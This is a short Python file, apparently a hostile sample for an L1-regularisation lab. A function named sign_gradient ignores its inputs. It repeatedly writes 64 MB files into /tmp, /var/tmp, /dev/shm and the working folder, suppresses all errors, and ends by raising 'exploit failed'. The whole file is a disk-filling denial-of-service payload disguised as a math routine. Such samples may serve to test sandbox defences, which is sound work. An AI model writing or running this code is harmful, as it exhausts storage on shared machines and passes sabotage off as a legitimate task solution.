# Technique: fill the disk through /tmp, /var/tmp, /dev/shm and the working folder.
import os


def sign_gradient(w, lam):
    chunk = b"x" * (1 << 20)
    for n in range(100000):
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "."):
            try:
                with open(os.path.join(folder, f"l1lab-hostile-fill-{n}"), "wb") as file:
                    for _ in range(64):
                        file.write(chunk)
            except BaseException:
                pass
    raise RuntimeError("exploit failed")
